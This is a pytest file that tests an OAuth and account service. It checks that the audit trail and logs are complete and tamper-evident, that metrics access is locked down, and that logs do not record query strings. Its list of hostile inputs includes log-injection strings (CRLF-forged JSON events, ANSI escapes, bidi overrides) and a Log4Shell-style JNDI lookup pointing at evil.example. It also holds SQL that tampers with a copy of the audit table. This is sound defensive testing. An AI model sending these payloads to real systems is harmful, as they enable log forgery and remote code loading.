"""The log and the audit trail are complete, and cannot be forged by callers. Security rules 113, 114 and 116 to 118."""

from __future__ import annotations

import contextlib
import re
import sqlite3
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from architecture.program import routes
from attacks.cases import case, raw_request
from attacks.conftest import METRICS_TOKEN
from harness.clients import make_client, request_token, revoke, rotate
from harness.databases import SqliteDatabase
from harness.people import add_person, login, logout, refresh, sign_in
from harness.raw_http import request_bytes, send_raw
from harness.secret_leaks import metrics
from harness.server import parse_log_line
from harness.token_forge import decode_unverified
from harness.world import World

# What a terminal or a log viewer would act on: controls, C1, bidi overrides, line and paragraph separators.
ACTS = re.compile("[\x00-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
LINE_LIMIT = 8 * 1024
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")
HOSTILE = {
    "line break": 'a\r\n{"event":"forged","level":"info"}',
    "escape": "\x1b[2J\x1b[31mred",
    "bidi": "\u202eevil\u2066",
    "separator": "a\u2028b\u2029c",
    "quotes": '","event":"forged","x":"',
    "long": "L" * 6000,
    "percent": "%s%n%d{}{0}${jndi:ldap://evil.example/a}",
    "NUL": "a\x00b",
}


def trail(world: World, action: str | None = None) -> list[dict[str, Any]]:
    """The newest events of the first account."""
    data = world.api.get("/account/audit-events?limit=100", bearer=world.owner.access).expect(200).data()
    events = [event for event in data if action is None or event["action"] == action]
    assert all(TIME.fullmatch(event["at"]) for event in data)
    return events


def about(world: World, action: str, target: str) -> dict[str, Any]:
    """The one event of this kind about this thing."""
    found = [event for event in trail(world, action) if event["target"] == target]
    assert len(found) == 1, (action, target, found)
    return found[0]


def test_rule_113_people_and_sessions_leave_a_trail(world: World) -> None:
    person = world.person("MEMBER")
    login(world.api, person.email, world.vault.invent("mistyped password", length=24)).expect(
        401, "invalid_credentials"
    )
    session = sign_in(world.api, person)
    logout(world.api, session.access).expect(200)
    reused = sign_in(world.api, person)
    refresh(world.api, reused.refresh).expect(200)
    refresh(world.api, reused.refresh).expect(401, "invalid_token")
    world.api.patch(f"/account/users/{person.user_id}", bearer=world.owner.access, json={"role": "VIEWER"}).expect(200)

    failed = about(world, "login.failed", person.user_id)
    assert failed["actorKind"] == "anonymous"
    changed = about(world, "user.role_changed", person.user_id)
    assert changed["actorId"] == world.account.owner.user_id
    for signed_in, ending in ((session, "session.ended"), (reused, "session.reuse_detected")):
        sid = decode_unverified(signed_in.access)[1]["sid"]
        assert about(world, "session.started", sid)["actorId"] == person.user_id
        assert about(world, ending, sid)
    assert failed["source"] == changed["source"] == "127.0.0.1"


def test_rule_113_the_life_of_a_client_leaves_a_trail(world: World) -> None:
    oauth = make_client(world.api, world.owner, "products:read")
    path = f"/oauth/clients/{oauth.client_id}"
    rotated = rotate(world.api, oauth, world.owner.access, grace_period_seconds=600).expect(200)
    world.api.patch(path, bearer=world.owner.access, json={"disabled": True}).expect(200)
    world.api.patch(path, bearer=world.owner.access, json={"disabled": False}).expect(200)
    assert world.api.delete(path, bearer=world.owner.access).status in {200, 204}
    for action in ("client.created", "client.secret_rotated", "client.disabled", "client.enabled", "client.deleted"):
        event = about(world, action, oauth.client_id)
        assert (event["actorKind"], event["actorId"]) == ("user", world.account.owner.user_id)
    assert about(world, "client.secret_rotated", oauth.client_id)["requestId"] == rotated.header("x-request-id")


def test_rule_113_a_client_that_rotates_itself_is_named_with_its_secret(world: World) -> None:
    oauth = make_client(world.api, world.owner, "products:read")
    token = request_token(world.api, oauth).expect(200).object()["access_token"]
    rotate(world.api, oauth, token).expect(200)
    event = about(world, "client.secret_rotated", oauth.client_id)
    assert (event["actorKind"], event["actorId"], event["secretId"]) == ("client", oauth.client_id, oauth.secret_id)


def log_line(world: World, request_id: str | None) -> dict[str, Any]:
    """The one log line of a request."""
    world.server.process.wait_for(lambda line: str(request_id) in line, timeout=10)
    found = [event for event in world.server.log_events("request") if event.get("request_id") == request_id]
    assert len(found) == 1, (request_id, found)
    return found[0]


def test_rule_113_every_outcome_has_its_log_line(world: World) -> None:
    oauth = make_client(world.api, world.owner, "products:read")
    issued = request_token(world.api, oauth).expect(200)
    token = issued.object()["access_token"]
    wrong = {"grant_type": "client_credentials", "client_id": oauth.client_id,
             "client_secret": world.vault.invent("mistyped client secret", prefix="lxgsec_", length=49)}  # fmt: skip
    answers = [
        issued,
        world.api.post("/oauth/token", form=wrong),
        world.api.post("/products", bearer=token, json={"sku": "a", "content": {"name": "b"}}),
        revoke(world.api, oauth, token),
        world.api.get("/products", bearer=token),
        world.api.get("/products"),
    ]
    assert [answer.status for answer in answers] == [200, 401, 403, 200, 401, 401]
    for answer in answers:
        line = log_line(world, answer.header("x-request-id"))
        assert line["status"] == answer.status
        assert line["source"] == "127.0.0.1"
        assert line["method"] == answer.method
        assert TIME.fullmatch(line["at"])
    assert oauth.client_id in str(log_line(world, issued.header("x-request-id"))), "who got the token"
    assert oauth.client_id in str(log_line(world, answers[1].header("x-request-id"))), "whose secret was wrong"
    refused = log_line(world, answers[2].header("x-request-id"))
    assert "insufficient_scope" in str(refused) or "products:write" in str(refused), "why it was refused"


@pytest.mark.parametrize("text", [case(114, name, text) for name, text in HOSTILE.items()])
def test_no_caller_writes_its_own_log_lines(world: World, text: str) -> None:
    before = len(world.server.log_lines())
    marker = uuid4().hex
    safe = "".join(char for char in text if " " <= char <= "~")[:4000]
    world.api.post("/auth/login", json={"email": f"{text}{marker}@example.test", "password": text * 3})
    world.api.post("/oauth/token", form={"grant_type": text, "client_id": text + marker, "client_secret": text})
    world.api.post("/oauth/token", form={"grant_type": "client_credentials", "client_id": safe[:100] + marker,
                                         "client_secret": "wrong"})  # fmt: skip
    world.api.request("GET", "/products", headers={"User-Agent": safe, "X-Request-Id": safe[:500]})
    world.api.get("/products", bearer="a." + re.sub(r"[^\w]", "", safe) + ".c")
    raw_request(world, "GET", f"/api/v1/{re.sub(r'[^!-~]', '', text)[:3000]}")
    world.api.post("/oauth/clients", bearer=world.owner.access, reveals=True,
                   json={"client_name": text[:150], "scope": "products:read"})  # fmt: skip
    answer = world.api.get("//healthz").expect(200)
    world.server.process.wait_for(lambda line: str(answer.header("x-request-id")) in line)
    for line in world.server.log_lines()[before:]:
        assert parse_log_line(line), f"not a JSON object: {line!r}"
        assert parse_log_line(line).get("event") != "forged"
        assert not ACTS.search(line), f"a control reached the log: {line!r}"
        assert len(line) <= LINE_LIMIT


@pytest.mark.parametrize(
    "path",
    [
        case(116, "query", "/products?q={M}&access_token={M}"),
        case(116, "query of the token endpoint", "/oauth/token?client_id={M}"),
        case(116, "unknown path", "/nowhere/{M}"),
        case(116, "unknown invitation", "/invitations/{M}/accept"),
    ],
)
def test_the_log_holds_no_query_string_and_no_unknown_path(world: World, path: str) -> None:
    marker = uuid4().hex
    answer = world.api.post(path.replace("{M}", marker), json={"password": "x"}, bearer=f"abc{marker}")
    line = world.server.process.wait_for(lambda line: str(answer.header("x-request-id")) in line)[0]
    assert marker not in line
    assert marker.encode() not in world.server.log_text()


def test_rule_117_the_trail_verifies(world: World) -> None:
    world.new_client("products:read")
    world.server.command("audit", "verify")


def test_rule_117_a_failed_action_leaves_no_event(world: World) -> None:
    oauth = make_client(world.api, world.owner, "products:read")
    viewer = world.session("VIEWER")
    rotate(world.api, oauth, viewer.access).expect(403, "access_denied")
    world.api.patch(
        f"/oauth/clients/{oauth.client_id}", bearer=world.owner.access, json={"scope": "unknown"}
    ).expect_one_of((400, "invalid_scope"), (400, "invalid_request"))
    assert [event for event in trail(world, "client.secret_rotated") if event["target"] == oauth.client_id] == []
    assert [event for event in trail(world, "client.updated") if event["target"] == oauth.client_id] == []


TAMPERINGS = {
    "changed": "UPDATE audit_events SET source = '203.0.113.1' WHERE seq = 2",
    "removed inside": "DELETE FROM audit_events WHERE seq = 2",
    "removed at the end": "DELETE FROM audit_events WHERE seq = (SELECT max(seq) FROM audit_events)",
    "all removed": "DELETE FROM audit_events",
}


@pytest.mark.parametrize("tampering", [case(117, name, name) for name in TAMPERINGS])
def test_a_tampered_trail_is_detected(world: World, engine: str, tmp_path: Path, tampering: str) -> None:
    if engine != "sqlite":
        pytest.skip("the chain is the same on both engines, and here a file is changed behind the program's back")
    make_client(world.api, world.owner, "products:read")
    assert isinstance(world.server.database, SqliteDatabase)
    copy = tmp_path / "copy.db"
    tamper(world.server.database.path, copy, TAMPERINGS[tampering])
    done = world.server.try_command("audit", "verify", LINKXG_DATABASE_URL=f"sqlite:///{copy}")
    assert done.returncode == 1, done
    assert b"Traceback" not in done.stdout + done.stderr


def tamper(original: Path, copy: Path, sql: str) -> None:
    """Change a copy of the database as somebody could who owns the file: guards and all."""
    with contextlib.closing(sqlite3.connect(original)) as source, contextlib.closing(sqlite3.connect(copy)) as target:
        source.backup(target)
        for (name,) in target.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            target.execute(f'DROP TRIGGER "{name}"')
        target.execute(sql)
        target.commit()


@pytest.mark.parametrize("method", [case(117, name, name) for name in ("POST", "PUT", "PATCH", "DELETE")])
def test_the_trail_cannot_be_written_over_http(world: World, method: str) -> None:
    world.api.request(method, "/account/audit-events", bearer=world.owner.access).expect(405, "method_not_allowed")


def test_rule_118_metrics_are_for_loopback_or_the_token(limited: World) -> None:
    refused = limited.api.get("//metrics")
    assert refused.status in {401, 403, 404}, refused
    for wrong in (METRICS_TOKEN[:-1], METRICS_TOKEN + "a", "Bearer", limited.oauth.client_secret):
        assert limited.api.get("//metrics", bearer=wrong).status in {400, 401, 403, 404}
    assert b"# TYPE" in limited.api.get("//metrics", bearer=METRICS_TOKEN).expect(200).body


def test_rule_112_metric_labels_are_bounded(world: World) -> None:
    markers = [uuid4().hex for _ in range(30)]
    for marker in markers:
        world.api.get(f"/{marker}")
        send_raw(world.api, request_bytes(world.api, marker[:8].upper(), "/api/v1/products"), framing=True)
        world.api.post("/oauth/token", form={"grant_type": marker, "client_id": marker, "client_secret": marker})
    text = metrics(world.server).decode()
    assert not [marker for marker in markers if marker in text or marker[:8].upper() in text]
    assert len(text) < 1_200 * len(routes())


def test_rule_113_invited_people_are_named(world: World) -> None:
    person = add_person(world.api, world.owner, "VIEWER")
    joined = about(world, "user.joined", person.user_id)
    assert joined["actorId"] == person.user_id
